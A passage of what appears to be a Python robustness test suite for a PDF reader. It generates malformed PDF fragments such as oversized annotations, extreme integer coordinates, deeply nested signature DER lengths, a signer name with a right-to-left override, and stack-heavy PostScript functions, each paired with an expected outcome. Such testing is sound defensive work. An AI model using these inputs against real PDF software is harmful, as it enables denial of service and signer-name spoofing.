                                                             "objects": {90: stream("[.01] 0 d 0 0 m 200 0 l S", "/Type /XObject /Subtype /Form /BBox [0 0 612 792]")}}
    yield "cost: some masks", "clean", masks(100)
    yield "cost: three thousand masks", "draw", masks(3000)
    yield "cost: some groups", "clean", {"resources": "/XObject << /X 90 0 R >>", "content": "/X Do\n" * 100, "objects": {90: stream("0 0 9 9 re f", group)}}
    yield "cost: five thousand groups", "draw", {"resources": "/XObject << /X 90 0 R >>", "content": "/X Do\n" * 5000, "objects": {90: stream("0 0 9 9 re f", group)}}


def made():
    """Looks that are made from numbers beyond sense, signatures that are no CMS, programs that lose count."""
    field, signature = "/Subtype /Widget /FT /Tx /T (a)", "/Subtype /Widget /FT /Sig /T (s) /V << /Type /Sig"
    for what, want, keys in [
            ("ink of one point, four hundred thousand times", "clean", f"/Subtype /Ink /InkList [[{'1 2 ' * 400000}]]"),
            ("a line around the world, dashed", "clean", "/Subtype /Line /L [-2147483647 0 2147483647 0] /BS << /S /D /D [.001] >> /LE [/OpenArrow /Slash]"),
            ("a line as wide as can be", "clean", "/Subtype /Line /L [0 0 9 9] /BS << /W 2147483647 >> /LE [/Circle /Diamond] /LL 2147483647 /LLE 2147483647"),
            ("a wave around the world", "clean", "/Subtype /Squiggly /QuadPoints [0 10 2147483647 10 0 9.999 2147483647 9.999]"),
            ("ten thousand waves", "any", f"/Subtype /Squiggly /QuadPoints [{'0 10 600 10 0 9 600 9 ' * 10000}]"),
            ("dashes from corner to corner, again and again", "limit", f"/Subtype /Polygon /Vertices [{'0 0 600 600 ' * 100000}] /BS << /W 1 /S /D /D [.1] >>"),
            ("letters of no size in a box of no width", "clean", f"/Subtype /FreeText /DA (/Helv 0.0001 Tf) /Contents ({'word ' * 6000})"),
            ("letters larger than the page", "clean", f"/Subtype /FreeText /DA (/Helv 99999999 Tf) /Contents ({'w' * 30000})"),
            ("a comb of two thousand million", "clean", f"{field} /Ff 16777216 /MaxLen 2147483647 /V ({'x' * 30000}) /DA (/Helv 0 Tf 0 g)"),
            ("a comb of none", "clean", f"{field} /Ff 16777216 /MaxLen 0 /V (xx) /DA (/Helv 0 Tf 0 g)"),
            ("a password", "clean", f"{field} /Ff 8192 /V ({X}) /DA (/Helv 9 Tf 0 g)"),
            ("a field that is all there is to it", "clean", f"{field} /Ff 65536 /MK 95 0 R /BS 95 0 R /Parent 95 0 R /CA 95 0 R"),
            ("a signature of lengths without end", "clean", f"{signature} /Contents <{'3084FFFFFFFF' * 5000}> >>"),
            ("a signature thirty thousand deep", "clean", f"{signature} /Contents <{'3080' * 30000}> >>"),
            ("a signer's name turned around", "clean", f"{signature} /Name <FEFF202E0041000A0042> /Contents <00> >>")]:
        yield f"made: {what}", want, {"annots": "95 0 R", "objects": {95: annot(keys)}}
    shading = "/Shading << /S << /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 9 9] /Function 90 0 R >> >>"
    for what, want, program in [("as high as the stack goes", "any", "{ " + "dup " * 98 + "99 1 roll " + "pop " * 98 + "}"), ("blocks without end", "limit", "{ " + "true {" * 33 + "} if " * 33 + "}"),
                                ("choices without blocks", "draw", "{ if ifelse { } { } { } ifelse {} }"), ("parts of a step", "draw", "{ dup 2 1.5 roll 1 index pop pop 1.0 index }")]:
        yield f"made: a program: {what}", want, {"resources": shading, "content": "/S sh", "objects": {90: stream(program, "/FunctionType 4 /Domain [0 1] /Range [0 1]")}}


def cases():
    for group in (costs, made, roads, annotations, addresses, catalog, forms, externals, spellings, revisions, trees, circles, bombs, contents, programs, locks):
        yield from group()
